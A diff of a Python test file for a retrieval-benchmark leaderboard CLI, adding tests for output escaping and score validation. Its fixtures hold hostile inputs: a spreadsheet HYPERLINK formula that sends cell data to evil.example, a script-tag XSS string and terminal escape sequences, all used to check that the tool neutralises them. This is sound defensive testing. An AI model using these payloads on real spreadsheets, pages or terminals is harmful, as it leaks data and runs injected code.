@@ -145,34 +145,137 @@ def test_compare_two_runs(run_cli, tmp_path, data_dir):
     assert code == 2 and "no <Task>.per_query.tsv files" in err
 
 
-def test_html_page_in_headless_chromium(run_cli, tmp_path):
-    """The page renders in Debian's Chromium with the rows and the chart; a system named like a
-    script stays text."""
-    import os
-    import re
-    import shutil
-    import subprocess
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tTAB=1", "\rCR=1",
+           "<script>alert(1)</script>|</table>"]
 
-    chromium = shutil.which("chromium")
-    if chromium is None:
-        if os.environ.get("CI"):
-            pytest.fail("chromium is missing: .ci/run installs Debian's chromium for this test")
-        pytest.skip("Debian's chromium is not installed (apt-get install chromium)")
+
+def hostile_results(folder: Path) -> None:
+    for i, name in enumerate(HOSTILE):
+        for task in R2MED_TASKS:
+            write_result(folder / f"evil__{i}" / "v1", task.name, 0.5, name)
+
+
+def test_csv_cells_cannot_become_formulas(run_cli, tmp_path):
+    """OWASP's advice: a cell starting with = + - @ tab or CR gets a leading apostrophe."""
+    hostile_results(tmp_path / "results")
+    code, out, err = run_cli("leaderboard", str(tmp_path / "results"), "--no-published", "--format", "csv")
+    assert code == 0, err
+    systems = [row[1] for row in list(csv.reader(out.splitlines()))[1:]]
+    assert sorted(systems) == sorted(["'" + HOSTILE[0], "'+1+2", "'-2+3", "'@SUM(A1:A9)", "'\\tTAB=1", "'\\rCR=1",
+                                      HOSTILE[6]])
+    assert not any(line.startswith(("=", "+", "-", "@", "\t", "\r")) for line in out.split(","))
+
+
+def test_markdown_escapes_html_and_pipes(run_cli, tmp_path):
+    hostile_results(tmp_path / "results")
+    code, out, err = run_cli("leaderboard", str(tmp_path / "results"), "--no-published", "--format", "markdown")
+    assert code == 0, err
+    assert "<" not in out and ">" not in out
+    assert "| &lt;script&gt;alert(1)&lt;/script&gt;\\|&lt;/table&gt; |" in out
+    assert all(line.count(" | ") == out.splitlines()[0].count(" | ") for line in out.splitlines()[2:])  # no extra cell
+
+
+def test_table_fits_120_columns_and_writes_its_text(run_cli, tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    for task in R2MED_TASKS:
+        write_result(tmp_path / "results" / "acme__long" / "v1", task.name, 0.4, "acme/" + "very-long-name-" * 12)
+    code, out, err = run_cli("leaderboard", "results")
+    assert code == 0, err
+    lines = out.splitlines()
+    assert max(map(len, lines)) <= 120
+    body = [line for line in lines if line[:5].strip().isdigit()]
+    assert len(body) == 70 and len(lines) < 2 * len(body) + 12  # a row takes one or two lines, not 5-12
+    code, _, err = run_cli("leaderboard", "results", "--output", tmp_path / "board.txt")
+    assert code == 0 and (tmp_path / "board.txt").read_text() == out
+    code, wide, _ = run_cli("leaderboard", "results", "--wide", "--top", "3")
+    assert "Rewriter" in wide and "published (R2MED/r2med.github.io index.html @c85a571)" in wide
+    assert "<rich" not in (tmp_path / "board.txt").read_text()
+
+
+@pytest.mark.parametrize("value", ["1e9", "-5", "NaN", "Infinity", "1.0000001"])
+def test_a_score_that_is_no_score_is_skipped_with_a_warning(run_cli, tmp_path, value):
     results = tmp_path / "results"
     for task in R2MED_TASKS:
-        write_result(results / "evil" / "v1", task.name, 0.5, "<script>alert(1)</script>")
-    page = tmp_path / "board.html"
-    code, _, err = run_cli("leaderboard", str(results), "--format", "html", "--output", str(page))
+        write_result(results / "acme__ranker" / "v1", task.name, 0.3, "acme/ranker")
+    bad = results / "acme__ranker" / "v1" / f"{R2MED_TASKS[0].name}.json"
+    bad.write_text(bad.read_text().replace('"main_score": 0.3', f'"main_score": {value}'))
+    rows, err = board(run_cli, str(results), "--no-published")
+    warning = f"warning: {bad}: nDCG@10 {float(value)!r} is not a score between 0 and 1; skipped"
+    assert err.strip().splitlines() == [warning]
+    (row,) = rows
+    assert row["Biology"] is None and row["Bioinformatics"] == 30.0 and row["average"] is None
+
+
+def test_names_from_folders_reach_the_terminal_printable(run_cli, tmp_path):
+    name = "\x1b]0;pwned\x07[bold]acme[/bold]"
+    for task in R2MED_TASKS:
+        write_result(tmp_path / "results" / "acme__x" / "v1", task.name, 0.3, name)
+    (tmp_path / "results" / "acme__x" / "v1" / "\x1b[2Jbad.json").write_text("{")
+    for fmt in ("table", "markdown", "csv"):
+        code, out, err = run_cli("leaderboard", str(tmp_path / "results"), "--no-published", "--format", fmt)
+        assert code == 0 and "\x1b" not in out + err and "\x07" not in out
+        assert "\\x1b]0;pwned\\x07[bold]acme[/bold]" in out  # shown, escaped, markup not applied
+    assert "\\x1b[2Jbad.json: not an mteb TaskResult" in err
+
+
+@pytest.mark.parametrize("tasks, expected", [
+    ("Biology", ["Biology"]), ("r2med", [t.short_name for t in R2MED_TASKS]),
+    ("clinical-case,MedQA-Diag", ["MedQA-Diag", "PMC-Clinical", "IIYi-Clinical"]),
+    ("R2MEDIIYiClinicalRetrieval", ["IIYi-Clinical"])])
+def test_tasks_takes_datasets_groups_and_r2med(run_cli, tmp_path, monkeypatch, tasks, expected):
+    from r2med_tasks.evaluation import leaderboard_average
+
+    monkeypatch.chdir(tmp_path)
+    rows, _ = board(run_cli, "--tasks", tasks)
+    assert [k for k in rows[0] if k in {t.short_name for t in R2MED_TASKS}] == expected
+    def average(r):  # all eight: the published average (BGE-Reasoner has no per-dataset values)
+        return float(r["avg"]) if len(expected) == 8 else leaderboard_average([float(r[d]) for d in expected])
+
+    best = max((r for r in published() if len(expected) == 8 or all(r[d] for d in expected)), key=average)
+    assert (rows[0]["system"], rows[0]["average"]) == (best["name"], average(best))  # max: the first of ties
+
+
+def test_tasks_other_than_r2med_are_refused_in_one_line(run_cli, tmp_path):
+    code, out, err = run_cli("leaderboard", "--tasks", "sample")
+    assert code == 2 and out == "" and len(err.strip().splitlines()) == 1 and "not an R2MED dataset" in err
+    code, _, err = run_cli("leaderboard", "--tasks", "Biolgy")
+    assert code == 2 and "did you mean 'Biology'" in err
+
+
+def per_query(folder: Path, scores: dict[str, dict[str, float]]) -> Path:
+    folder.mkdir(parents=True)
+    for task, values in scores.items():
+        (folder / f"{task}.per_query.tsv").write_text(
+            "query_id\tndcg_at_10\n" + "".join(f"{q}\t{v}\n" for q, v in values.items()))
+    return folder
+
+
+def test_compare_averages_r2med_tasks_only(run_cli, tmp_path):
+    """The sample task is compared, shown apart, and left out of the average (as the leaderboard)."""
+    bio, pmc, sample = "R2MEDBiologyRetrieval", "R2MEDPMCClinicalRetrieval", "R2MEDSampleRetrieval"
+    a = per_query(tmp_path / "a", {bio: {"q1": 0.2, "q2": 0.4}, pmc: {"q1": 0.5}, sample: {"q1": 0.0}})
+    b = per_query(tmp_path / "b", {bio: {"q1": 0.3, "q2": 0.5}, pmc: {"q1": 0.7}, sample: {"q1": 1.0}})
+    code, out, err = run_cli("compare", str(a), str(b), "--json", "--trials", "10")
     assert code == 0, err
-    dom = subprocess.run(
-        [chromium, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
-         "--disable-background-networking", "--disable-component-update", "--disable-sync",
-         f"--user-data-dir={tmp_path / 'profile'}", "--dump-dom", page.as_uri()],
-        capture_output=True, text=True, timeout=120).stdout
-    assert dom.count("<tr") == 1 + 70  # header + 69 published rows + ours
-    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in dom  # shown as text
-    assert len(re.findall(r"<script", dom)) == 1  # only the page's own sorting script
-    assert dom.count("<rect") == 8 * 5 and "o3-mini + BM25" in dom
+    result = json.loads(out)
+    assert result["average"]["n_tasks"] == 2 and result["tasks_outside_average"] == [sample]
+    assert result["average"]["difference"] == pytest.approx(((0.4 - 0.3) + (0.7 - 0.5)) / 2)
+    assert result["tasks"][sample]["difference"] == 1.0
+    code, out, _ = run_cli("compare", str(a), str(b), "--trials", "10")
+    assert "Average of 2 R2MED tasks" in out and "+15.00" in out and "not averaged" in out
+    code, out, _ = run_cli("compare", str(a), str(b), "--json", "--trials", "10", "--tasks", "clinical-case")
+    assert list(json.loads(out)["tasks"]) == [pmc]
+    code, out, _ = run_cli("compare", str(a), str(b), "--json", "--trials", "10", "--tasks", "sample")
+    assert json.loads(out)["average"] is None
+
+
+@pytest.mark.parametrize("value", ["-0.5", "1.5", "nan", "inf"])
+def test_compare_refuses_a_per_query_value_that_is_no_score(run_cli, tmp_path, value):
+    a = per_query(tmp_path / "a", {"R2MEDBiologyRetrieval": {"q1": 0.2}})
+    b = per_query(tmp_path / "b", {"R2MEDBiologyRetrieval": {"q1": float(value)}})
+    code, out, err = run_cli("compare", str(a), str(b))
+    assert code == 2 and out == "" and len(err.strip().splitlines()) == 1
+    assert f"{b / 'R2MEDBiologyRetrieval.per_query.tsv'}: query q1: nDCG@10" in err and "Traceback" not in err
 
 
 def test_export_mteb(run_cli, tmp_path, model_path):
